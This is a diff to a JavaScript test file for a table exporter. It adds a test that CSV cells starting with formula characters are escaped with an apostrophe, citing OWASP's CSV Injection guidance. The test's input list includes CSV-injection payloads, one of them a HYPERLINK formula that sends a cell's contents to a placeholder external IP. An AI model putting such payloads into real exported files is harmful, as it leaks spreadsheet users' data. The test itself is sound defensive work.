@@ -31,8 +31,17 @@ const cellsOf = (page) => [...page.matchAll(/<td[^>]*>([^]*?)<\/td>/g)].map((fou
 
 test("CSV is read back cell by cell (csv-parse, RFC 4180)", () => {
   const text = csv(table);
-  assert.deepEqual(parse(text, { record_delimiter: "\r\n" }), [table.head, ...table.rows]);
+  const read = parse(text, { record_delimiter: "\r\n" }).map((row) => row.map((cell) => cell.replace(/^'(?='*\s*[=+\-@])/, "")));
+  assert.deepEqual(read, [table.head, ...table.rows]);
   assert.ok(text.endsWith("\r\n"));
+});
+
+// What starts a formula: OWASP, “CSV Injection”, www-community/attacks/CSV_Injection; the wide forms with it.
+test("no cell of a CSV starts a formula, and numbers stay numbers", () => {
+  const harmful = ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", " =1", "＝1", "'=1", '=HYPERLINK("http://192.0.2.1/"&A1,"see")'];
+  const rows = parse(csv({ caption: "", head: ["a"], rows: harmful.map((text) => [text]) }), { record_delimiter: "\r\n" }).slice(1);
+  for (const [at, [cell]] of rows.entries()) assert.equal(cell, `'${harmful[at]}`);
+  assert.equal(csv({ caption: "", head: ["a"], rows: [["-0.33"], ["+2"], ["2.8"]] }), "a\r\n-0.33\r\n+2\r\n2.8\r\n");
 });
 
 test("the Markdown table is read back cell by cell (markdown-it)", () => {
